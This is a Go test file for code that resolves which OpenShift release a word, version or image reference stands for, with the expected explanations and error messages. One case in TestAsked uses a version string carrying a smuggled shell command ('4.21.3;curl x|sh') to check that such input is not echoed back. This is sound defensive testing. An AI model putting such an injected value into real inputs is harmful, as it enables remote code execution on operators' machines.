package target

import (
	"errors"
	"strings"
	"testing"

	configv1 "github.com/openshift/api/config/v1"
)

func releaseOf(version, digest string) configv1.Release {
	return configv1.Release{Version: version, Image: "quay.io/r/release@sha256:" + strings.Repeat(digest, 64)}
}

func offering() *configv1.ClusterVersion {
	v := &configv1.ClusterVersion{}
	v.Status.Desired = releaseOf("4.20.9", "a")
	v.Status.AvailableUpdates = []configv1.Release{releaseOf("4.20.10", "b"), releaseOf("4.21.3", "c"), releaseOf("4.9.99", "d")}
	v.Status.ConditionalUpdates = []configv1.ConditionalUpdate{{Release: releaseOf("4.21.4", "e"), Risks: []configv1.ConditionalUpdateRisk{{Name: "SlowBoot", Message: "Nodes start slowly."}}}}
	return v
}

// TestFind: which release a word or a version stands for, and why; what stands for none is an error that says what
// there is.
func TestFind(t *testing.T) {
	chosen := offering()
	chosen.Spec.DesiredUpdate = &configv1.Update{Version: "4.21.4"}
	forced := offering()
	forced.Spec.DesiredUpdate = &configv1.Update{Image: "quay.io/r/release@sha256:" + strings.Repeat("f", 64), Force: true}
	bare := &configv1.ClusterVersion{}
	bare.Status.Conditions = []configv1.ClusterOperatorStatusCondition{{Type: configv1.RetrievedUpdates, Status: configv1.ConditionFalse, Reason: "NoChannel"}}
	for _, tt := range []struct {
		asked string
		by    *configv1.ClusterVersion
		image string // its digest, repeated
		why   string // or the error
		risks int
	}{
		{"next", offering(), "c", "the newest of the 3 updates that ClusterVersion recommends (4.9.99, 4.20.10, 4.21.3)", 0},
		{"4.20.10", offering(), "b", "recommended by ClusterVersion (availableUpdates)", 0},
		{"4.21.4", offering(), "e", "offered by ClusterVersion with conditions (conditionalUpdates)", 1},
		{"4.20.9", offering(), "a", "what the cluster runs, or is being updated to (status.desired)", 0},
		{"desired", chosen, "e", "spec.desiredUpdate of ClusterVersion; offered by ClusterVersion with conditions (conditionalUpdates)", 1},
		{"desired", forced, "f", "spec.desiredUpdate of ClusterVersion", 0},
		{"quay.io/r/release@sha256:" + strings.Repeat("c", 64), offering(), "c", "given by reference", 0},
		{"desired", offering(), "", "spec.desiredUpdate of ClusterVersion names no release: no update was chosen", 0},
		{"4.30.0", offering(), "", "ClusterVersion does not offer this version; it offers 4.9.99, 4.20.10, 4.21.3, 4.21.4", 0},
		{"next", bare, "", "ClusterVersion offers no recommended update, as it could not retrieve any (RetrievedUpdates: NoChannel); without an update service, give the reference of the release image", 0},
		{"newest", offering(), "", "want a version such as 4.21.3, next, desired, or the reference of a release image", 0},
		{"next", nil, "", "there is no ClusterVersion: clusters without one (MicroShift, plain Kubernetes) are updated in another way; a dump needs it too", 0},
	} {
		c, err := Find(tt.by, tt.asked)
		switch {
		case tt.image == "":
			if err == nil || err.Error() != tt.why {
				t.Errorf("%s: got %v, want %s", tt.asked, err, tt.why)
			}
		case err != nil || !strings.HasSuffix(c.Image, ":"+strings.Repeat(tt.image, 64)) || c.Why != tt.why || len(c.Risks) != tt.risks || c.Forced != (tt.by == forced):
			t.Errorf("%s: got %+v, %v", tt.asked, c, err)
		}
	}
	if _, err := Find(nil, "next"); !errors.Is(err, ErrNoVersion) {
		t.Errorf("got %v", err)
	}
}

// TestAsked: what a remedy names finds the same image again.
func TestAsked(t *testing.T) {
	desires := func(u configv1.Update) *configv1.ClusterVersion {
		v := offering()
		v.Spec.DesiredUpdate = &u
		return v
	}
	own, theirs := releaseOf("4.21.3", "f").Image, releaseOf("4.21.3", "c").Image
	for _, tt := range []struct {
		name  string
		by    *configv1.ClusterVersion
		asked string
		want  string
	}{
		{"a version", offering(), "4.21.3", "4.21.3"},
		{"a word", offering(), Next, "4.21.3"},
		{"a reference", offering(), own, own},
		{"the version that is offered", desires(configv1.Update{Version: "4.21.3"}), Desired, "4.21.3"},
		{"its image, too", desires(configv1.Update{Version: "4.21.3", Image: theirs}), Desired, "4.21.3"},
		{"another image under that version", desires(configv1.Update{Version: "4.21.3", Image: own}), Desired, own},
		{"an image under a version that is not offered", desires(configv1.Update{Version: "4.22.1", Image: own}), Desired, "4.22.1"},
		{"an image under a version that a shell would run", desires(configv1.Update{Version: "4.21.3;curl x|sh", Image: own}), Desired, own},
		{"an image alone", desires(configv1.Update{Image: own}), Desired, own},
	} {
		c, err := Find(tt.by, tt.asked)
		if err != nil {
			t.Fatalf("%s: %v", tt.name, err)
		}
		got := c.Asked(tt.by)
		if got != tt.want {
			t.Errorf("%s: got %s, want %s", tt.name, got, tt.want)
		}
		if again, err := Find(tt.by, got); err != nil || again.Image != c.Image {
			t.Errorf("%s: %s finds %s, %v, want %s", tt.name, got, again.Image, err, c.Image)
		}
	}
}
